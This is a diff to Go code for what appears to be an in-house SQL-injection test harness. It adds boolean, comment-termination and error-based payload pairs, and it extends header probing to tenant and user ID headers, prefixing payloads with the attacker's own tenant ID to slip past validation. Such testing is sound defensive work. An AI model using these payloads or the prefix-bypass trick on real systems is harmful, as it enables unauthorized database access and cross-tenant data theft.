@@ -20,12 +20,14 @@ type payload struct{ yes, no string }
 // Each pair has the same form and length; where one is taken for text so is the other.
 var payloads = []payload{
 	{"bulkhead''", "bulkhead'x"},
+	{"bulkhead*/ /*", "bulkhead*/x/*"},
 	{"bulkhead' OR 1=1 --", "bulkhead' OR 1=2 --"},
 	{"id,(SELECT 1/(SELECT 1))", "id,(SELECT 1/(SELECT 0))"},
 	{"bulkhead' OR '1'='1", "bulkhead' OR '1'='2"},
 	{"(CASE WHEN 1=1 THEN 1 ELSE 1/(SELECT 0) END)", "(CASE WHEN 1=2 THEN 1 ELSE 1/(SELECT 0) END)"},
 	{"asc,(SELECT 1/(SELECT 1))", "asc,(SELECT 1/(SELECT 0))"},
 	{"bulkhead') OR 1=1 --", "bulkhead') OR 1=2 --"},
+	{"bulkhead' --", "bulkhead' x --"},
 	{"1 OR 1=1", "1 OR 1=2"},
 	{"bulkhead%' AND 1=1 AND '%'='", "bulkhead%' AND 1=2 AND '%'='"},
 	{yes: "bulkhead' AND 1=CAST((SELECT version()) AS int) --"},
@@ -90,7 +92,7 @@ func inject(ctx context.Context, a *attack) error {
 		}
 		jobs = append(jobs, job{place: p, sleep: sleeps[i%len(sleeps)]})
 	}
-	each(ctx, len(jobs), atOnce, func(i int) {
+	each(ctx, len(jobs), atOnce, func(ctx context.Context, i int) {
 		if j := jobs[i]; j.sleep != "" {
 			a.injectSleep(ctx, j.place, j.sleep)
 		} else {
@@ -205,8 +207,14 @@ func (a *attack) injectSleep(ctx context.Context, p place, form string) {
 func (a *attack) injectHeaders(ctx context.Context) {
 	attacker, _ := a.pair(0)
 	for _, c := range a.ground(1) {
-		for _, name := range []string{"User-Agent", "Referer", "X-Request-Id", "X-Forwarded-For", "X-Correlation-Id"} {
-			for _, load := range payloads[:2] {
+		for _, name := range []string{"User-Agent", "Referer", "X-Request-Id", "X-Forwarded-For", "X-Correlation-Id", "X-Tenant-Id", "X-Tenant", "X-User-Id"} {
+			loads := payloads[:2:2]
+			if !strings.HasPrefix(name, "User-") && strings.HasSuffix(name, "-Id") || strings.HasPrefix(name, "X-Tenant") {
+				// Where a value is looked at before it is used, what begins with the caller's own passes.
+				own := a.World.Codec.TenantID(attacker).String()
+				loads = append(loads, payload{own + "') --", own + "') x --"}, payload{own + "' --", own + "' x --"}, payload{own + "''", own + "'x"})
+			}
+			for _, load := range loads {
 				ask := func(text string) (reply, error) {
 					slots := a.slots(c)
 					who := a.Login(attacker).Clone()
